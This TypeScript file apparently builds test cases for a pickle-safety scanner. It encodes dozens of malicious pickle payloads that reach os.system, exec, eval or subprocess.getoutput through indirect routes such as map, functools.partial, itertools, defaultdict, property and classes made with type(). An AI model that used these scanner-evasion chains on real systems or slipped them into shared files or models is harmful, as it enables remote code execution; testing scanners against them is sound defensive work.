// Class: a listed or lazy callable is given a dangerous one, and something later consumes it.
import {
  addItems,
  appends,
  build,
  buildPickle,
  call,
  emptyDict,
  newObj,
  none,
  obj,
  setItems,
  stackGlobal,
  text,
  tuple,
} from '../pickle.ts';
import { apply, attribute, C, D, executing, N, type Payload, push, python, shell, T } from './payload.ts';

const system = N('os', 'system');
const lazy = C('builtins', 'map', system, [shell]);
const partial = C('functools', 'partial', system, shell);

function consumed(name: string, by: string): Payload {
  const [module = '', attributeName = ''] = by.split(' ');
  return executing(name, `map(os.system) is consumed by ${attributeName}`, C(module, attributeName, lazy));
}

export const lazily: readonly Payload[] = [
  consumed('map-list', 'builtins list'),
  consumed('map-tuple', 'builtins tuple'),
  consumed('map-set', 'builtins set'),
  consumed('map-frozenset', 'builtins frozenset'),
  consumed('map-deque', 'collections deque'),
  consumed('map-counter', 'collections Counter'),
  consumed('map-any', 'builtins any'),
  consumed('map-sum', 'builtins sum'),
  consumed('map-sorted', 'builtins sorted'),
  consumed('map-max', 'builtins max'),
  consumed('map-next', 'builtins next'),
  consumed('map-bytearray', 'builtins bytearray'),
  consumed('map-fromkeys', 'collections OrderedDict.fromkeys'),
  consumed('map-user-list', 'collections UserList'),
  executing('map-newobj-tuple', 'map consumed by tuple.__new__', {
    code: newObj(stackGlobal('builtins', 'tuple'), push(lazy)),
  }),
  executing('map-newobj-frozenset', 'map consumed by frozenset.__new__', {
    code: newObj(stackGlobal('builtins', 'frozenset'), push(lazy)),
  }),
  executing(
    'map-by-newobj',
    'map made by NEWOBJ',
    C('builtins', 'tuple', { code: newObj(stackGlobal('builtins', 'map'), push(system), push([shell])) }),
  ),
  executing(
    'map-by-obj',
    'map made by OBJ',
    C('builtins', 'tuple', { code: obj(stackGlobal('builtins', 'map'), push(system), push([shell])) }),
  ),
  executing('map-array', 'map consumed by array.array', C('array', 'array', 'i', lazy)),
  executing('map-dict-update', 'map consumed as keys', C('builtins', 'dict', C('builtins', 'zip', lazy, lazy))),
  executing('filter-list', 'filter', C('builtins', 'list', C('builtins', 'filter', system, [shell]))),
  executing('starmap-list', 'itertools.starmap', C('builtins', 'list', C('itertools', 'starmap', system, [T(shell)]))),
  executing(
    'takewhile-list',
    'itertools.takewhile',
    C('builtins', 'list', C('itertools', 'takewhile', system, [shell])),
  ),
  executing(
    'dropwhile-list',
    'itertools.dropwhile',
    C('builtins', 'list', C('itertools', 'dropwhile', system, [shell])),
  ),
  executing(
    'filterfalse-list',
    'itertools.filterfalse',
    C('builtins', 'list', C('itertools', 'filterfalse', system, [shell])),
  ),
  executing('groupby-list', 'itertools.groupby', C('builtins', 'list', C('itertools', 'groupby', [shell], system))),
  executing(
    'accumulate-list',
    'itertools.accumulate',
    C('builtins', 'list', C('itertools', 'accumulate', [python, D()], N('builtins', 'eval'))),
  ),
  executing('partial-called', 'functools.partial, called', apply(partial)),
  executing('c-partial-called', 'the C twin of partial, called', apply(C('_functools', 'partial', system, shell))),
  executing(
    'partial-newobj',
    'partial made by NEWOBJ, called',
    apply({ code: newObj(stackGlobal('functools', 'partial'), push(system), text(shell)) }),
  ),
  executing(
    'partial-setstate',
    'partial of a harmless callable gets another by __setstate__',
    apply({
      code: build(
        push(C('functools', 'partial', N('builtins', 'int'))),
        tuple(push(system), tuple(text(shell)), emptyDict, none),
      ),
    }),
  ),
  executing(
    'defaultdict-getitem',
    'a defaultdict with a partial as factory',
    C('operator', 'getitem', C('collections', 'defaultdict', partial), 'x'),
  ),
  executing(
    'defaultdict-missing',
    'defaultdict.__missing__',
    C('collections', 'defaultdict.__missing__', C('collections', 'defaultdict', partial), 'x'),
  ),
  executing(
    'defaultdict-getattr',
    '__missing__ of a listed object by getattr',
    apply(attribute(C('collections', 'defaultdict', partial), '__missing__'), 'x'),
  ),
  executing('iter-sentinel', 'iter(callable, sentinel)', C('builtins', 'next', C('builtins', 'iter', partial, 9))),
  executing('appends-deque', 'APPENDS on a deque consumes nothing, its extend consumes map', {
    code: appends(push(C('collections', 'deque')), push(C('builtins', 'list', lazy))),
  }),
  executing(
    'appends-map',
    'the extend of a deque gets a lazy map',
    apply(attribute(C('collections', 'deque'), 'extend'), lazy),
  ),
  executing('method-type', 'types.MethodType binds the argument', apply(C('types', 'MethodType', system, shell))),
  executing(
    'property-get',
    'a property calls its getter',
    apply(attribute(C('builtins', 'property', system), '__get__'), shell),
  ),
  executing(
    'property-setitem',
    'the fget of a property',
    apply(attribute(C('builtins', 'property', system), 'fget'), shell),
  ),
  executing(
    'sort-key',
    'list.sort with a key',
    { code: push(C('functools', 'partial', N('builtins', 'sorted'), [shell])) },
    { build: () => sortedKey() },
  ),
  executing('lru-cache', 'lru_cache around it', apply(apply(C('functools', 'lru_cache', 1), system), shell)),
  executing(
    'singledispatch',
    'singledispatch around it',
    apply(C('functools', 'singledispatch', N('subprocess', 'getoutput')), shell),
  ),
  executing('type-made-class', 'a class made by type() whose __setitem__ is os.system', {
    code: setItems(
      push(
        apply(C('builtins', 'type', 'X', T(), D('__setitem__', C('builtins', 'staticmethod', N('builtins', 'exec'))))),
      ),
      text(python),
      emptyDict,
    ),
  }),
  executing('type-made-append', 'APPENDS calls the append of a made class', {
    code: appends(push(apply(C('builtins', 'type', 'X', T(), D('append', system)))), text(shell)),
  }),
  executing('type-made-add', 'ADDITEMS calls the add of a made class', {
    code: addItems(push(apply(C('builtins', 'type', 'X', T(), D('add', system)))), text(shell)),
  }),
  executing(
    'type-made-hash',
    'a dict key calls the __hash__ of a made class',
    D(apply(C('builtins', 'type', 'X', T(), D('__hash__', C('functools', 'partial', system, shell)))), 1),
  ),
  executing('type-made-eq', 'a set member calls the __eq__ of a made class', {
    code: addItems(
      [push(C('builtins', 'set'))],
      push(apply(C('builtins', 'type', 'X', T(), D('__hash__', C('functools', 'partial', system, shell))))),
    ),
  }),
  executing('type-made-setstate', 'BUILD calls the __setstate__ of a made class', {
    code: build(push(apply(C('builtins', 'type', 'X', T(), D('__setstate__', system)))), text(shell)),
  }),
];

function sortedKey(): Uint8Array {
  const keyed = C('functools', 'partial', N('builtins', 'sorted'), [shell]);
  const state = T(N('builtins', 'max'), T([shell, 'x']), D('key', N('os', 'system')), null);
  return buildPickle(4, call(build(push(keyed), push(state))));
}
